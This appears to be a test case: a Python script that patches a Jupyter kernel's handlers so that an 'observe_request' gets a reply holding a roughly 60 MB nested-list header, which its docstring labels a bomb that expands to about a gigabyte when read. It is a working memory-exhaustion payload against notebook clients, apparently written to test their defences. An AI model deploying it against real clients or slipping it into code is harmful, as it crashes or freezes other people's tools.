"""tries: answer with sixty megabytes of structure that become a gigabyte once they are read

after: marks
bomb: yes
"""

import struct

kernel = get_ipython().kernel
tree = "[" + "[]," * 19_000_000 + "[]]"
header = ('{"__metadata__": {"tree": "' + tree + '"}}').encode()
message = struct.pack("<Q", len(header)) + header


async def observe_request(stream, ident, parent):
    kernel.session.send(stream, "observe_reply", {}, parent, ident=ident, buffers=[message])


handlers = getattr(kernel, "shell_" + "handlers")
handlers["observe_request"] = observe_request
